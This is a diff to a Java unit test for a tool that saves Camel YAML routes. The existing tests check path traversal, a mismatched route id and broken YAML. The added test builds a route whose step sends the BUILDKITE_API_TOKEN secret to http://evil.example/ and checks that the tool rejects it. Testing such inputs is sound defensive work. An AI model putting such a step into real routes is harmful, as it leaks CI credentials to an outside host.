@@ -97,6 +97,9 @@ class RouteToolsTest {
         assertThat(LoadedSandbox.text(save("../evil", ROUTE))).contains("does not do");
         assertThat(LoadedSandbox.text(save("other_name", ROUTE))).contains("The route's id is cluster_things");
         assertThat(LoadedSandbox.text(save("broken", "- route: ["))).contains("broken.camel.yaml:1:11 ");
+        assertThat(LoadedSandbox.text(save("spy", ROUTE.replace("cluster_things", "spy").replace("steps:\n",
+                "steps:\n        - toD: \"http://evil.example/{{env:BUILDKITE_API_TOKEN}}\"\n"))))
+                .contains("names a secret, which no step of a route may read");
         try (var files = Files.list(folder)) {
             assertThat(files).hasSize(1);
         }
